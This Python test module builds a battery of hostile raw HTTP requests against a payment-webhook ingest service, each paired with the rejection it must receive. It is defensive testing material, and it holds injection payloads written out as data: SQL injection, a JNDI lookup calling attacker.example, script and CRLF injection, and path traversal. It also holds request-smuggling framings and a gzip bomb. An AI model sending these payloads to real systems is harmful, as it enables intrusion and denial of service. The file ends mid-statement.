"""Hostile requests for ingest, written as bytes on the wire, each with the answer it must get.

A case is one raw HTTP/1.1 request, so duplicated headers, odd paths, broken framing and
slow bodies reach the server exactly as written (aiohttp's client would normalise them),
and its expected answer: a status and ``{"error": reason}`` code, ``PROTOCOL`` (any 4xx)
where aiohttp refuses the request before paysync sees it, or for a return URL the ``303``
to the failure page with ``status=unverified``. Callbacks that are signed carry the
account's real signature, so only the hostile part can be what is refused.
``tests/integration/test_hostile.py`` runs the battery; ``exchange`` sends one case.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import hashlib
import hmac
import secrets
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Literal

import orjson

from paysync.settings import ProviderAccount, Secret
from providers.ccpayment import scheme as ccpayment
from providers.hdfc import scheme as hdfc
from providers.plural import scheme as plural
from simulator import SIMULATORS
from tests.support.config import ACCOUNT, RETURN_FAILURE

Value = str | bytes
Headers = Sequence[tuple[Value, Value]]

# Where a return URL that does not verify must send the customer (tests/support/config.py).
UNVERIFIED = f"{RETURN_FAILURE}?from=paysync&status=unverified"
AUTH_HEADER = {
    "paycore": "X-Signature",
    "ccpayment": "Sign",
    "hdfc": "Authorization",
    "plural": "webhook-signature",
}
AMOUNT_PATH = {
    "paycore": ("data", "attributes", "amount"),
    "ccpayment": ("paid_amount",),
    "hdfc": ("content", "order", "amount"),
    "plural": ("data", "order_amount", "value"),
}
REF = "hostile-ref-0001"
# Amounts (raw JSON text) and merchant references an attacker might try. Unsigned, each must
# get 401: no one without the secret can make ingest forward them.
AMOUNTS = {
    "1e309": "1e309",
    "nan": "NaN",
    "infinity": "Infinity",
    "negative": "-1",
    "40_digits": "9" * 40,
    "exponent_string": '"1e3"',
    "negative_zero": "-0",
    "underflow": "1e-400",
    "hex_string": '"0x10"',
}
REFS = {
    "sql": "'; DROP TABLE payments; --",
    "nul": "\u0000",
    "json_breakout": '"},{"',
    "traversal": "../../etc/passwd",
    "jndi": "${jndi:ldap://attacker.example/a}",
    "script": "<script>alert(1)</script>",
    "rtl_override": "\u202eevil",
    "crlf": "\r\nX-Injected: 1",
    "1000_chars": "r" * 1000,
}


@dataclass(frozen=True, slots=True)
class Expect:
    """``status`` and reason code a case must get; ``status=None``: any 4xx (the reason
    is recorded, not checked)."""

    status: int | None
    reason: str | None = None


PROTOCOL = Expect(None)
# The provider's ack, for a copy of a delivery already confirmed (published once).
ACKED = Expect(200)


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    provider: str
    name: str
    route: Literal["webhooks", "return"] = "webhooks"
    head: bytes
    body: bytes = b""
    # Send the body a byte at a time, slower than ingest.body_timeout_seconds allows.
    trickle: bool = False
    expect: Expect


@dataclass(frozen=True, slots=True)
class Answer:
    """``status`` 0: the connection closed without an answer; -1: no answer in time.
    ``detail``: the first line of a plain-text answer (aiohttp's own refusals)."""

    status: int
    reason: str | None = None
    location: str | None = None
    detail: str | None = None


def wire(target: Value, headers: Headers, body: bytes = b"", *, method: str = "POST") -> bytes:
    """A request head as sent; ``Content-Length`` is added unless ``headers`` frame the body."""
    names = {_b(name).lower() for name, _ in headers}
    lines = [f"{method} ".encode() + _b(target) + b" HTTP/1.1", b"Host: 127.0.0.1"]
    lines += [_b(name) + b": " + _b(value) for name, value in headers]
    if not names & {b"content-length", b"transfer-encoding"}:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join([*lines, b"Connection: close", b"", b""])


def _b(value: Value) -> bytes:
    return value if isinstance(value, bytes) else value.encode("utf-8")


async def exchange(port: int, case: Case, *, timeout: float, interval: float) -> Answer:
    """Send ``case`` on a connection of its own and read the first final answer."""
    try:
        async with asyncio.timeout(timeout):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            sender = asyncio.create_task(_send(writer, case, interval))
            try:
                return await _read_answer(reader)
            finally:
                sender.cancel()
                await asyncio.wait([sender])
                writer.close()
    except TimeoutError:
        return Answer(-1)


async def _send(writer: asyncio.StreamWriter, case: Case, interval: float) -> None:
    try:
        writer.write(case.head)
        if not case.trickle:
            writer.write(case.body)
        for i in range(len(case.body) if case.trickle else 0):
            await writer.drain()
            await asyncio.sleep(interval)
            writer.write(case.body[i : i + 1])
        await writer.drain()
    except ConnectionError:
        pass  # the server answered and closed before reading everything: the answer counts


async def _read_answer(reader: asyncio.StreamReader) -> Answer:
    try:
        status, fields = 100, {}
        while 100 <= status < 200:  # skip "100 Continue"
            line = await reader.readuntil(b"\r\n")
            status = int(line.split()[1])
            fields = await _fields(reader)
        try:
            body = await reader.readexactly(int(fields.get("content-length", "0")))
        except asyncio.IncompleteReadError as exc:  # HEAD: a length, no body
            body = exc.partial
    except (ConnectionError, asyncio.IncompleteReadError):
        return Answer(0)
    if not fields.get("content-type", "").startswith("application/json"):
        detail = body.decode("utf-8", "replace").partition("\n")[0][:60] or None
        return Answer(status, None, fields.get("location"), detail)
    return Answer(status, _reason(body), fields.get("location"))


async def _fields(reader: asyncio.StreamReader) -> dict[str, str]:
    fields: dict[str, str] = {}
    while (line := await reader.readuntil(b"\r\n")) != b"\r\n":
        name, _, value = line.decode("latin-1").partition(":")
        fields[name.strip().lower()] = value.strip()
    return fields


def _reason(body: bytes) -> str:
    """The reason code of a ``{"error": reason}`` answer; a JSON answer of another shape is
    returned whole, so it fails any expectation."""
    doc = orjson.loads(body)
    if isinstance(doc, dict) and list(doc) == ["error"] and isinstance(doc["error"], str):
        return doc["error"]
    return body.decode("utf-8", "replace")


# --- accounts an attacker might sign with ---------------------------------------------------


def stranger(provider: str, account: ProviderAccount, label: str) -> ProviderAccount:
    """``account`` with secrets in the provider's format that are not its own: another
    account's, or an attacker's guess. Keeps every non-secret field (HDFC's username,
    CCPayment's app id), so only the secret differs."""
    ref = f"env:{label.upper()}"
    fresh: dict[str, list[Secret]] = {
        "paycore": {
            "secrets": [Secret(ref, "sk_live_" + secrets.token_hex(12))],
            "test_secrets": [Secret(ref, "sk_test_" + secrets.token_hex(12))],
        },
        "ccpayment": {"secrets": [Secret(ref, secrets.token_hex(16))]},
        "hdfc": {
            "secrets": [Secret(ref, secrets.token_hex(12))],
            "response_keys": [Secret(ref, secrets.token_hex(16).upper())],
        },
        "plural": {
            "secrets": [Secret(ref, base64.b64encode(secrets.token_bytes(24)).decode())],
            "return_keys": [Secret(ref, secrets.token_hex(32).upper())],
        },
    }[provider]
    return account.model_copy(update=fresh)


# --- bodies -----------------------------------------------------------------------------------


def with_amount(provider: str, body: bytes, literal: str) -> bytes:
    """``body`` with its amount replaced by ``literal``, written as raw JSON text."""
    doc = orjson.loads(body)
    *parents, leaf = AMOUNT_PATH[provider]
    node = doc
    for key in parents:
        node = node[key]
    node[leaf] = "__hostile_amount__"
    return orjson.dumps(doc).replace(b'"__hostile_amount__"', literal.encode())


def with_ref(body: bytes, raw: bytes) -> bytes:
    """``body`` with every quoted ``REF`` replaced by ``raw`` (a JSON value, as bytes)."""
    return body.replace(orjson.dumps(REF), raw)


def deep_arrays(depth: int) -> bytes:
    return b'{"a":' + b"[" * depth + b"]" * depth + b"}"


def deep_mixed(pairs: int) -> bytes:
    return b'{"":[' * pairs + b"]}" * pairs


def chunked(body: bytes) -> bytes:
    return b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n"


def gzip_bomb() -> bytes:
    return gzip.compress(b" " * 10_000_000, compresslevel=9)


_PADDING = b" " * 512


def broken_gzip_without_trailer(body: bytes) -> tuple[bytes, bytes]:
    """A gzip stream of ``body`` without its 8-byte trailer, and all it decodes to."""
    stream = gzip.compress(body)[:-8]
    return stream, zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(stream)


def broken_gzip_truncated(body: bytes) -> tuple[bytes, bytes]:
    """A gzip stream of ``body`` + padding cut short, and the prefix it decodes to (the
    whole object and part of the padding: still one JSON object)."""
    return _cut(gzip.compress(body + _PADDING), 16 + zlib.MAX_WBITS, body)


def broken_deflate_truncated(body: bytes) -> tuple[bytes, bytes]:
    return _cut(zlib.compress(body + _PADDING), zlib.MAX_WBITS, body)


def _cut(stream: bytes, wbits: int, body: bytes) -> tuple[bytes, bytes]:
    for end in range(len(stream) - 1, 0, -1):
        decoded = zlib.decompressobj(wbits).decompress(stream[:end])
        if decoded.startswith(body) and decoded != body + _PADDING:
            return stream[:end], decoded
    raise AssertionError("no cut of the stream decodes to the whole body")


# --- provider-specific signatures with chosen inputs ---------------------------------------


def ccpayment_headers(account: ProviderAccount, body: bytes, timestamp: str) -> dict[str, str]:
    """CCPayment's headers for ``body`` signed at an arbitrary ``timestamp`` string."""
    assert isinstance(account, ccpayment.CCPaymentAccount)
    secret = account.secrets[0].reveal()
    return {
        "Content-Type": ccpayment.CONTENT_TYPE,
        ccpayment.HEADER_APP_ID: account.app_id,
        ccpayment.HEADER_TIMESTAMP: timestamp,
        ccpayment.HEADER_SIGN: ccpayment.sign(account.app_id, secret, timestamp, body),
    }


def plural_headers(
    account: ProviderAccount, body: bytes, timestamp: str, *, key: bytes | None = None
) -> dict[str, str]:
    """Plural's headers for ``body`` signed at an arbitrary ``timestamp`` string, with the
    account's key or ``key``."""
    assert isinstance(account, plural.PluralAccount)
    if key is None:
        _, key = plural.webhook_key(account.secrets[0].reveal(), account.webhook_key_encoding)
    msg_id = "msg_" + secrets.token_urlsafe(18)
    mac = plural.webhook_signature(msg_id, timestamp, body, key)
    return {
        "Content-Type": "application/json",
        plural.HEADER_ID: msg_id,
        plural.HEADER_TIMESTAMP: timestamp,
        plural.HEADER_SIGNATURE: "v1," + base64.b64encode(mac).decode("ascii"),
    }


def paycore_variants(secret: str, body: bytes) -> dict[str, str]:
    """Signatures a confused or guessing sender might compute instead of PayCore's."""
    key = secret.encode()
    # SHA-1 is what PayCore's scheme uses; these are its wrong neighbours.
    salted = hashlib.sha1(key + body + key)  # noqa: S324
    return {
        "hex_digest": salted.hexdigest(),
        "unsalted": base64.b64encode(hashlib.sha1(body).digest()).decode(),  # noqa: S324
        "hmac_sha1": base64.b64encode(hmac.digest(key, body, "sha1")).decode(),
        "sha256": base64.b64encode(hashlib.sha256(key + body + key).digest()).decode(),
    }


def fullwidth(digits: str) -> str:
    return "".join(chr(0xFF10 + int(d)) for d in digits)


def providers() -> list[str]:
    return sorted(SIMULATORS)


def callback_path(provider: str, account: str = ACCOUNT) -> str:
    return f"/webhooks/{provider}/{account}"


# --- the battery ------------------------------------------------------------------------------

CONTENT_TYPE = "Content-Type"
MALFORMED = Expect(400, "malformed_json")
INVALID_UTF8 = Expect(400, "invalid_utf8")
NOT_AN_OBJECT = Expect(400, "not_a_json_object")
MISSING = Expect(401, "missing_header")
DUPLICATE = Expect(401, "duplicate_header")
STALE = Expect(401, "stale_timestamp")
BAD_TIMESTAMP = Expect(401, "bad_timestamp")
TOO_LARGE = Expect(413, "body_too_large")
TOO_SLOW = Expect(408, "body_timeout")
WRONG_TYPE = Expect(415, "unsupported_media_type")
UNREADABLE = Expect(400, "unreadable_body")
MEDIA_TYPES = {
    "text_plain": "text/plain",
    "xml": "application/xml",
    "multipart": "multipart/form-data; boundary=hostile",
    "form": "application/x-www-form-urlencoded",
    "text_json": "text/json",
    "json_patch": "application/json-patch+json",
    "jsonx": "application/jsonx",
    "empty": "",
    "list": "application/json, text/plain",
}


def replaced(
    headers: Mapping[str, str], name: str, value: Value | None
) -> list[tuple[Value, Value]]:
    """``headers`` in order with ``name`` set to ``value`` (removed when ``None``)."""
    pairs: list[tuple[Value, Value]] = [(k, v) for k, v in headers.items() if k != name]
    return pairs if value is None else [*pairs, (name, value)]


class Battery:
    """Every hostile callback for one provider (``cases``), each with its expected answer.

    ``primer`` is a genuine delivery the test sends (and must see accepted) before the
    battery: Plural's replay cases are copies of it, which only a delivery ingest already
    accepted can show (the ack, nothing published). The other providers have none."""

    def __init__(
        self,
        provider: str,
        accounts: Mapping[str, ProviderAccount],
        *,
        now: int,
        max_body: int,
    ) -> None:
        self.provider, self.now, self.max_body = provider, now, max_body
        self.sim = SIMULATORS[provider]
        self.account = accounts[provider]
        self.accounts = accounts
        self.guess = stranger(provider, self.account, "forged")
        self.path = callback_path(provider)
        self.bad = Expect(401, "bad_credentials" if provider == "hdfc" else "bad_signature")
        self.auth = AUTH_HEADER[provider]
        self.body = self.sim.callback_body(REF, now=now)
        self.primer: tuple[bytes, dict[str, str]] | None = None
        self.cases: list[Case] = []
        for group in (
            self._authentication,
            self._headers,
            self._media_types,
            self._size_and_time,
            self._framing,
            self._check_order,
            self._bodies,
            self._attacker_payloads,
            self._paths,
            self._methods,
        ):
            group()
        {
            "paycore": self._paycore,
            "ccpayment": self._ccpayment,
            "hdfc": self._hdfc,
            "plural": self._plural,
        }[provider]()

    def signed(self, body: bytes | None = None) -> dict[str, str]:
        """Genuine headers for ``body`` (fresh per call: a new Plural ``webhook-id``)."""
        return self.sim.sign_callback(self.account, self._body(body), now=self.now)

    def forged(self, body: bytes | None = None) -> dict[str, str]:
        """Headers for ``body`` made exactly as the provider makes them, with a guessed key."""
        return self.sim.sign_callback(self.guess, self._body(body), now=self.now)

    def _body(self, body: bytes | None) -> bytes:
        return self.body if body is None else body

    def add(
        self,
        name: str,
        expect: Expect,
        headers: Mapping[str, str] | Headers,
        body: bytes | None = None,
        *,
        target: Value | None = None,
        method: str = "POST",
        trickle: bool = False,
    ) -> None:
        pairs = list(headers.items()) if isinstance(headers, Mapping) else list(headers)
        body = self._body(body)
        head = wire(self.path if target is None else target, pairs, body, method=method)
        self.add_raw(name, expect, head, body, trickle=trickle)

    def add_raw(
        self, name: str, expect: Expect, head: bytes, body: bytes, *, trickle: bool = False
    ) -> None:
        case = Case(
            provider=self.provider, name=name, head=head, body=body, trickle=trickle, expect=expect
        )
        self.cases.append(case)

    def _authentication(self) -> None:
        auth, bad = self.auth, self.bad
        value = self.signed()[auth]
        self.add("forged_signature", bad, self.forged())
        replay = self.forged()
        self.add("forged_replay_1", bad, replay)
        self.add("forged_replay_2", bad, replay)
        other = stranger(self.provider, self.account, "other_account")
        if self.provider == "hdfc":
            other = other.model_copy(update={"webhook_username": "other_shop"})
        self.add(
            "other_accounts_signature", bad, self.sim.sign_callback(other, self.body, now=self.now)
        )
        edits: dict[str, Value] = {
            "truncated_signature": value[: len(value) // 2],
            "non_ascii_signature": "é" + value[1:],
            "invalid_utf8_signature": b"\xff\xfe" + value[2:].encode(),
            "signature_8000_bytes": "A" * 8000,
        }
        for name, edited in edits.items():
            self.add(name, bad, replaced(self.signed(), auth, edited))
        self.add("signature_over_header_limit", PROTOCOL, replaced(self.signed(), auth, "A" * 9000))
        self.add(
            "control_char_in_signature", PROTOCOL, replaced(self.signed(), auth, b"\x01" + b"A")
        )
        for name, first, second in (
            ("duplicated_signature_both_forged", self.forged()[auth], self.forged()[auth]),
            ("duplicated_signature_forged_first", self.forged()[auth], None),
            ("duplicated_signature_valid_first", None, self.forged()[auth]),
        ):
            signed = self.signed()
            pairs = replaced(signed, auth, None)
            copies = [first or signed[auth], second or signed[auth]]
            self.add(name, DUPLICATE, [*pairs, *((auth, copy) for copy in copies)])
        if self.provider != "hdfc":  # Basic credentials do not cover the body
            tampered = with_ref(self.body, orjson.dumps(REF.upper()))
            self.add("tampered_body", bad, self.signed(), tampered)
            self.add("body_with_trailing_newline", bad, self.signed(), self.body + b"\n")

    def _headers(self) -> None:
        for header in self.sim.required_headers:
            for label, value in (("missing", None), ("empty", ""), ("blank", "   ")):
                self.add(f"{label}_{header}", MISSING, replaced(self.signed(), header, value))
        forged = list(self.forged().items())
        self.add("too_many_headers", PROTOCOL, forged + [(f"X-Pad-{i}", "1") for i in range(200)])
        self.add("obsolete_line_folding", PROTOCOL, [*forged, ("X-Note", b"a\r\n folded")])
        self.add("space_in_header_name", PROTOCOL, [*forged, ("X Note", "1")])
        self.add("nul_in_header_name", PROTOCOL, [*forged, (b"X\x00Note", "1")])

    def _media_types(self) -> None:
        for name, media in MEDIA_TYPES.items():
            self.add(
                f"content_type_{name}", WRONG_TYPE, replaced(self.signed(), CONTENT_TYPE, media)
            )
        self.add(
            "content_type_wrong_and_forged",
            WRONG_TYPE,
            replaced(self.forged(), CONTENT_TYPE, "text/plain"),
        )
        json_twice = [*self.signed().items(), (CONTENT_TYPE, "application/json")]
        self.add("content_type_twice", PROTOCOL, json_twice)
        # Accepted media types: the request goes on to be judged by its signature.
        for name, media in (
            ("upper_case", "APPLICATION/JSON"),
            ("utf16", "application/json; charset=utf-16"),
        ):
            self.add(
                f"content_type_{name}_forged",
                self.bad,
                replaced(self.forged(), CONTENT_TYPE, media),
            )

    def _size_and_time(self) -> None:
        over = self.body + b" " * self.max_body
        at_limit = self.body.ljust(self.max_body)
        self.add("huge_body_signed", TOO_LARGE, self.signed(over), over)
        self.add("huge_body_forged", TOO_LARGE, self.forged(over), over)
        self.add("one_byte_over_limit", TOO_LARGE, self.forged(at_limit + b" "), at_limit + b" ")
        self.add("exactly_at_limit_forged", self.bad, self.forged(at_limit), at_limit)
        chunked_headers = [*self.forged(over).items(), ("Transfer-Encoding", "chunked")]
        self.add("huge_body_chunked", TOO_LARGE, chunked_headers, chunked(over))
        gzipped = [*self.forged().items(), ("Content-Encoding", "gzip")]
        self.add("gzip_bomb", TOO_LARGE, gzipped, gzip_bomb())
        self.add("gzip_forged", self.bad, gzipped, gzip.compress(self.body))
        self.add("gzip_garbage", UNREADABLE, gzipped, b"this is not gzip")
        deflated = [*self.forged().items(), ("Content-Encoding", "deflate")]
        self.add("deflate_garbage", UNREADABLE, deflated, b"nor is this deflate")
        # Signed over what a lenient decoder makes of a broken stream, so only the broken
        # encoding can be what is refused: a gzip without its trailer (CRC and size), and
        # streams cut short after the whole JSON object (only padding lost).
        for name, coding, cut in (
            ("gzip_without_trailer_signed", "gzip", broken_gzip_without_trailer),
            ("gzip_truncated_signed", "gzip", broken_gzip_truncated),
            ("deflate_truncated_signed", "deflate", broken_deflate_truncated),
        ):
            sent, decodes_to = cut(self.body)
            headers = [*self.signed(decodes_to).items(), ("Content-Encoding", coding)]
            self.add(name, UNREADABLE, headers, sent)
        self.add(
            "two_content_encodings",
            Expect(415, "unsupported_content_encoding"),
            [*self.signed().items(), ("Content-Encoding", "gzip, identity")],
            gzip.compress(self.body),
        )
        # Waiting for "100 Continue" before sending a body over the limit: refused at once
        # (no 100 Continue, so the client sends nothing; the case sends no body either).
        declared = [*self.signed().items(), ("Expect", "100-continue")]
        declared.append(("Content-Length", str(10_000_000)))
        self.add("expect_continue_over_limit", TOO_LARGE, declared, b"")
        brotli = [*self.forged().items(), ("Content-Encoding", "br")]
        self.add("brotli_garbage", PROTOCOL, brotli, b"nor brotli")
        self.add("slow_body_forged", TOO_SLOW, self.forged(), trickle=True)
        self.add("slow_body_signed", TOO_SLOW, self.signed(), trickle=True)
        slow_chunks = [*self.signed().items(), ("Transfer-Encoding", "chunked")]
        self.add("slow_body_chunked", TOO_SLOW, slow_chunks, chunked(self.body), trickle=True)
        longer = [*self.signed().items(), ("Content-Length", str(len(self.body) + 64))]
        self.add("body_shorter_than_its_length", TOO_SLOW, longer)

    def _framing(self) -> None:
        forged, size = list(self.forged().items()), str(len(self.body))
        framings: dict[str, tuple[list[tuple[Value, Value]], bytes]] = {
            "content_length_overflow": ([("Content-Length", "9" * 30)], self.body),
            "content_length_negative": ([("Content-Length", "-1")], self.body),
            "content_length_plus_sign": ([("Content-Length", "+" + size)], self.body),
            "content_length_twice": (
                [("Content-Length", size), ("Content-Length", size)],
                self.body,
            ),
            "length_and_chunked": (
                [("Content-Length", size), ("Transfer-Encoding", "chunked")],
                chunked(self.body),
            ),
            "bad_chunk_size": ([("Transfer-Encoding", "chunked")], b"zz\r\n" + self.body),
            "transfer_encoding_identity": ([("Transfer-Encoding", "identity")], self.body),
        }
        for name, (framing, body) in framings.items():
            self.add(name, PROTOCOL, forged + framing, body)
        head = wire(self.path, forged, self.body)
        self.add_raw(
            "http_version_9_9", PROTOCOL, head.replace(b"HTTP/1.1", b"HTTP/9.9"), self.body
        )
        self.add_raw("missing_host", PROTOCOL, head.replace(b"Host: 127.0.0.1\r\n", b""), self.body)
        self.add_raw("bare_lf_line_ends", PROTOCOL, head.replace(b"\r\n", b"\n"), self.body)

    def _check_order(self) -> None:
        """404 → 415 → 413/408 → 401 → 409 → 400: each case fails two checks, the first wins."""
        over = self.body + b" " * self.max_body
        elsewhere = callback_path(self.provider, "elsewhere")
        wrong_type = replaced(self.signed(), CONTENT_TYPE, "text/plain")
        unknown = Expect(404, "unknown_account")
        self.add("unknown_account_signed", unknown, self.signed(), target=elsewhere)
        self.add("unknown_account_huge_body", unknown, self.signed(over), over, target=elsewhere)
        self.add("unknown_account_wrong_type", unknown, wrong_type, target=elsewhere)
        self.add(
            "unknown_account_slow_body", unknown, self.signed(), target=elsewhere, trickle=True
        )
        self.add("wrong_type_huge_body", WRONG_TYPE, wrong_type, over)
        self.add("wrong_type_slow_body", WRONG_TYPE, wrong_type, trickle=True)
        json_only = {CONTENT_TYPE: "application/json"}
        self.add("huge_body_no_credentials", TOO_LARGE, json_only, over)
        self.add("slow_body_no_credentials", TOO_SLOW, json_only, trickle=True)
        self.add("invalid_utf8_no_credentials", MISSING, json_only, self.body + b"\xff")

    def _bodies(self) -> None:
        """Unreadable bodies: refused 401 unsigned, 400 when signed (authentic, unreadable)."""
        body = self.body
        readable_by_none: dict[str, tuple[bytes, Expect]] = {
            "deeply_nested_arrays": (deep_arrays(2000), MALFORMED),
            "deeply_nested_objects": (deep_mixed(520), MALFORMED),
            "invalid_utf8_ff": (with_ref(body, b'"ref\xff"'), INVALID_UTF8),
            "invalid_utf8_overlong": (with_ref(body, b'"ref\xc0\xaf"'), INVALID_UTF8),
            "invalid_utf8_surrogate": (with_ref(body, b'"ref\xed\xa0\x80"'), INVALID_UTF8),
            "invalid_utf8_truncated": (body + b"\xe2\x82", INVALID_UTF8),
            "nan_amount": (with_amount(self.provider, body, "NaN"), MALFORMED),
            "infinity_amount": (with_amount(self.provider, body, "Infinity"), MALFORMED),
            "minus_infinity_amount": (with_amount(self.provider, body, "-Infinity"), MALFORMED),
            "overflowing_amount": (with_amount(self.provider, body, "1e309"), MALFORMED),
            "byte_order_mark": (b"\xef\xbb\xbf" + body, MALFORMED),
            "empty_body": (b"", MALFORMED),
            "truncated_json": (body[: len(body) // 2], MALFORMED),
            "trailing_garbage": (body + b" x", MALFORMED),
            "utf16": (body.decode().encode("utf-16-le"), MALFORMED),
            "single_quotes": (body.replace(b'"', b"'"), MALFORMED),
            "comment": (body + b"/* hostile */", MALFORMED),
            "raw_nul_in_string": (with_ref(body, b'"ref\x00ref"'), MALFORMED),
            "json_array": (b"[]", NOT_AN_OBJECT),
            "json_string": (b'"payment"', NOT_AN_OBJECT),
            "json_number": (b"1", NOT_AN_OBJECT),
            "json_null": (b"null", NOT_AN_OBJECT),
        }
        for name, (unreadable, expect) in readable_by_none.items():
            self.add(f"{name}_signed", expect, self.signed(unreadable), unreadable)
        for name in ("deeply_nested_arrays", "invalid_utf8_ff", "nan_amount"):
            unreadable = readable_by_none[name][0]
            self.add(f"{name}_forged", self.bad, self.forged(unreadable), unreadable)

    def _attacker_payloads(self) -> None:
        for name, literal in AMOUNTS.items():
            body = with_amount(self.provider, self.body, literal)
            self.add(f"forged_amount_{name}", self.bad, self.forged(body), body)
        for name, ref in REFS.items():
            body = with_ref(self.body, orjson.dumps(ref))
            self.add(f"forged_merchant_ref_{name}", self.bad, self.forged(body), body)
        # Authentic, but Postgres cannot store a NUL: refused at the edge, never a message
        # the worker fails on until it is dead-lettered.
        nul = Expect(400, "nul_character")
        nul_ref = with_ref(self.body, orjson.dumps("ref\x00"))
        nul_key = self.body.replace(b"{", b'{"k\\u0000":1,', 1)
        for name, body in (("merchant_ref", nul_ref), ("key", nul_key)):
            self.add(f"signed_nul_in_{name}", nul, self.signed(body), body)

    def _paths(self) -> None:
        p, path = self.provider, self.path
        unknown: dict[str, tuple[str, str]] = {
            "unknown_provider": ("/webhooks/stripe/shop", "unknown_provider"),
            "provider_upper_case": (f"/webhooks/{p.upper()}/{ACCOUNT}", "unknown_provider"),
            "provider_traversal": (f"/webhooks/..%2F..%2F{p}/{ACCOUNT}", "unknown_provider"),
            "account_upper_case": (callback_path(p, ACCOUNT.upper()), "unknown_account"),
            "account_traversal": (callback_path(p, "..%2F..%2Fetc%2Fpasswd"), "unknown_account"),
            "account_nul": (callback_path(p, "sh%00op"), "unknown_account"),
            "account_invalid_utf8": (callback_path(p, "sh%FFop"), "unknown_account"),
            "account_overlong_utf8": (callback_path(p, "sh%C0%AFop"), "unknown_account"),
            "account_bad_percent": (callback_path(p, "sh%zzop"), "unknown_account"),
            "account_semicolon": (callback_path(p, "shop;x=1"), "unknown_account"),
            "account_encoded_slash": (callback_path(p, "shop%2F..%2Fshop"), "unknown_account"),
            "account_trailing_space": (callback_path(p, "shop%20"), "unknown_account"),
            "account_sql": (callback_path(p, "shop'%20OR%20'1'='1"), "unknown_account"),
            "account_5000_chars": (callback_path(p, "a" * 5000), "unknown_account"),
        }
        for name, (target, reason) in unknown.items():
            self.add(name, Expect(404, reason), self.signed(), target=target)
        # These reach the real account: the request is judged by its signature.
        for name, target in {
            "account_percent_encoded": f"/webhooks/{p}/%73hop",
            "absolute_form": f"http://evil.example{path}",
            "query_string": f"{path}?account=other&provider=stripe",
            "fragment": f"{path}#fragment",
        }.items():
            self.add(name, self.bad, self.forged(), target=target)
        # aiohttp refuses these before paysync sees them (any 4xx).
        for name, raw in {
            "path_over_line_limit": f"/webhooks/{p}/{'a' * 9000}".encode(),
            "trailing_slash": f"{path}/".encode(),
            "double_slash": f"/webhooks//{p}/{ACCOUNT}".encode(),
            "dot_segments": f"/webhooks/x/../{p}/{ACCOUNT}".encode(),
            "encoded_dot_segments": f"/webhooks/%2e%2e/{p}/{ACCOUNT}".encode(),
            "backslashes": f"\\webhooks\\{p}\\{ACCOUNT}".encode(),
            "raw_invalid_utf8": f"/webhooks/{p}/sh".encode() + b"\xffop",
            "tab_in_path": f"/webhooks/{p}/sh\top".encode(),
            "space_in_path": f"/webhooks/{p}/sh op".encode(),
        }.items():
            self.add(name, PROTOCOL, self.forged(), target=raw)
        # Another provider's genuine callback, sent here: this scheme's headers are absent.
        names = providers()
        neighbour = names[(names.index(p) + 1) % len(names)]
        sim = SIMULATORS[neighbour]
        body = sim.callback_body(REF, now=self.now)
        theirs = sim.sign_callback(self.accounts[neighbour], body, now=self.now)
        self.add(f"{neighbour}_callback_sent_here", MISSING, theirs, body)

    def _methods(self) -> None:
        for method in ("GET", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"):
            self.add(f"method_{method.lower()}", PROTOCOL, self.signed(), method=method)
        self.add("method_in_lower_case", PROTOCOL, self.signed(), method="post")

    # --- provider-specific -------------------------------------------------------------------

    def _paycore(self) -> None:
        secret = self.account.secrets[0].reveal()
        for name, signature in paycore_variants(secret, self.body).items():
            self.add(f"signature_{name}", self.bad, replaced(self.signed(), self.auth, signature))
        split = self.signed()[self.auth]
        self.add(
            "signature_with_inner_space",
            self.bad,
            replaced(self.signed(), self.auth, split[:10] + " " + split[10:]),
        )
        test_mode = self.body.replace(b'"test_mode":false', b'"test_mode":true')
        self.add("forged_test_mode", self.bad, self.forged(test_mode), test_mode)

    def _timestamps(self, sign: Callable[[bytes, str], dict[str, str]], tolerance: int) -> None:
        """Signed with the odd timestamp itself, so only the timestamp can be refused."""
        now, digits = self.now, self.provider == "ccpayment"  # CCPayment wants exactly 10
        stamps: dict[str, tuple[str, Expect]] = {
            "stale_timestamp": (str(now - 3600), STALE),
            "future_timestamp": (str(now + 3600), STALE),
            "just_past_tolerance": (str(now - tolerance - 60), STALE),
            "just_beyond_future_tolerance": (str(now + tolerance + 60), STALE),
            "zero_timestamp": ("0" * 10, STALE),
            "letters_timestamp": ("abcdefghij", BAD_TIMESTAMP),
            "negative_timestamp": ("-" + str(now)[:9], BAD_TIMESTAMP),
            "decimal_timestamp": (f"{now}.5", BAD_TIMESTAMP),
            "hex_timestamp": (hex(now), BAD_TIMESTAMP),
            "fullwidth_digits_timestamp": (fullwidth(str(now)), BAD_TIMESTAMP),
            "milliseconds_timestamp": (str(now * 1000), BAD_TIMESTAMP if digits else STALE),
            "twenty_digit_timestamp": ("9" * 20, BAD_TIMESTAMP if digits else STALE),
        }
        for name, (stamp, expect) in stamps.items():
            self.add(name, expect, sign(self.body, stamp))
        header = SIMULATORS[self.provider].required_headers[1]
        valid = sign(self.body, str(now))
        self.add("invalid_utf8_timestamp", BAD_TIMESTAMP, replaced(valid, header, b"\xff" * 10))
        moved = replaced(sign(self.body, str(now)), header, str(now - 1))
        self.add("timestamp_changed_after_signing", self.bad, moved)
        twice = sign(self.body, str(now))
        pairs = [*replaced(twice, header, None), (header, str(now - 3600)), (header, twice[header])]
        self.add("duplicated_timestamp", DUPLICATE, pairs)

    def _ccpayment(self) -> None:
        account = self.account
        assert isinstance(account, ccpayment.CCPaymentAccount)
        self._timestamps(
            lambda body, stamp: ccpayment_headers(account, body, stamp),
            account.timestamp_tolerance_seconds,
        )
        foreign = Expect(401, "foreign_app_id")
        other_app = stranger("ccpayment", account, "other_app").model_copy(
            update={"app_id": "2" * 33}
        )
        self.add(
            "other_apps_signature",
            foreign,
            self.sim.sign_callback(other_app, self.body, now=self.now),
        )
        app_id = ccpayment.HEADER_APP_ID
        for name, value in (
            ("app_id_with_suffix", account.app_id + "0"),
            ("app_id_invalid_utf8", b"\xff\xfe"),
        ):
            self.add(name, foreign, replaced(self.signed(), app_id, value))
        secret, stamp = account.secrets[0].reveal(), str(self.now)
        signed = ccpayment_headers(account, self.body, stamp)
        mac = hmac.new(
